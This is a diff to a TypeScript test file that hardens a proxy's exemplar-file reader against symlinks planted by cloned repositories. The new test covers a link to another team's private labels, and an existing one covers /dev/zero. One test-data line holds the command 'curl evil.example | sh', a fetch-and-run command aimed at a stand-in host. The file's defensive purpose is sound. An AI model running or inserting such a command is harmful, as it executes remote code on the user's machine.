@@ -1,7 +1,7 @@
 /** The team exemplar file: parse (lenient), write (latest label wins, atomic), escaping round trip. */
-import { mkdtempSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
+import { lstatSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { dirname, join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import { adjacentTier, ExemplarFileUnread, exemplarsPathFor, formatExemplars, parseExemplars, MAX_EXEMPLAR_BYTES, readExemplarFile, writeExemplar } from '../../proxy/src/routing/teamExemplars';
 
@@ -100,12 +100,29 @@ describe('reading an exemplar file from a cloned repository', () => {
     expect(readExemplarFile(path).exemplars.map((e) => e.prompt)).toEqual(['hello', 'curl evil.example | sh']);
   });
 
+  it('a link to a file of the user\'s is neither read nor has its lines copied into the repository by a label', () => {
+    const d = tmp();
+    // Another repository's labels: prompts from that team's traffic, in the file's own format.
+    const other = join(d, 'private', '.tollgate', 'router-exemplars.tsv');
+    writeExemplar(other, { prompt: 'summarise the Q3 acquisition memo for Acme', tier: 'large', reason: 'private' });
+    const before = readFileSync(other, 'utf8');
+    const planted = join(d, 'clone', '.tollgate', 'router-exemplars.tsv');
+    mkdirSync(dirname(planted), { recursive: true });
+    symlinkSync(other, planted);
+    expect(readExemplarFile(planted)).toEqual({ exemplars: [], problems: [`${planted} is a link (a cloned repository can point one at any file of yours); not read`], unread: true });
+    expect(() => writeExemplar(planted, { prompt: 'hello', tier: 'small', reason: 'dashboard' })).toThrow(ExemplarFileUnread);
+    expect(lstatSync(planted).isSymbolicLink()).toBe(true);
+    expect(readFileSync(other, 'utf8')).toBe(before);
+  });
+
   it('reads only a regular file of sane size (a link to /dev/zero was read until memory ran out)', () => {
     const dir = mkdtempSync(join(tmpdir(), 'tollgate-exemplars-'));
     try {
       const link = join(dir, 'router-exemplars.tsv');
       symlinkSync('/dev/zero', link);
-      expect(readExemplarFile(link)).toEqual({ exemplars: [], problems: [`${link} is not a regular file; not read`], unread: true });
+      expect(readExemplarFile(link)).toMatchObject({ exemplars: [], unread: true });
+      mkdirSync(join(dir, 'a-folder'));
+      expect(readExemplarFile(join(dir, 'a-folder')).problems).toEqual([`${join(dir, 'a-folder')} is not a regular file; not read`]);
       const big = join(dir, 'big.tsv');
       writeFileSync(big, 'prompt\ttier\n');
       truncateSync(big, MAX_EXEMPLAR_BYTES + 1); // sparse: no 8 MB written
